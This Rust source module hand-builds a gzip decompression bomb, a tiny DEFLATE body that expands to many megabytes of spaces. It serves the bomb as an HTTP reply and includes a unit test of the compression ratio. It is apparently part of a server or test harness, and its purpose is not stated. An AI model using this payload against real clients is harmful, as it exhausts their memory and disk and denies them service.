//! A gzip bomb: a small body that decompresses to a large one. Written by hand, which needs no compressor (RFC 1951, 1952).

use super::http::Reply;

/// The length of one repetition, the maximum of DEFLATE.
const MAX_REPETITION: usize = 258;
/// The member header: DEFLATE, no name, no time, unknown system.
const HEADER: [u8; 10] = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff];

/// Returns an answer with status 200 whose body decompresses to at least `bytes` spaces.
pub(super) fn reply(bytes: usize) -> Reply {
    let mut reply = Reply::json(200, "").with_header("Content-Encoding", "gzip");
    reply.body = gzip_spaces(bytes);
    reply
}

/// Compresses spaces into one block of fixed codes: a space, then repetitions of it. The checksum at the very end is wrong.
fn gzip_spaces(bytes: usize) -> Vec<u8> {
    let mut bits = BitWriter(HEADER.to_vec(), 8);
    // The last block, and of fixed codes.
    bits.push(0b110, 3);
    // The blank: literals below 144 are eight bits from 0x30 on.
    bits.push(0x30 + u32::from(b' '), 8);
    for _ in 0..bytes.div_ceil(MAX_REPETITION) {
        // Length 258 is code 285, eight bits from 0xc0 (for 280) on; distance 1 is code 0, five bits.
        bits.push(0xc5 << 5, 13);
    }
    bits.push(0, 7);
    bits.0.extend([0; 8]);
    bits.0
}

/// A bit stream: its bytes, and the number of bits used in the last one.
struct BitWriter(Vec<u8>, u32);

impl BitWriter {
    /// Appends the lowest `length` bits of `code`, highest first, as Huffman codes are packed.
    fn push(&mut self, code: u32, length: u32) {
        for at in (0..length).rev() {
            if self.1 == 8 {
                self.0.push(0);
                self.1 = 0;
            }
            let bit = u8::try_from((code >> at) & 1).unwrap_or(0);
            if let Some(last) = self.0.last_mut() {
                *last |= bit << self.1;
            }
            self.1 += 1;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_bomb_is_small_and_begins_as_gzip_does() {
        let bomb = gzip_spaces(64 << 20);
        assert!(bomb.starts_with(&[0x1f, 0x8b, 8]) && bomb.len() < 512 << 10);
    }
}
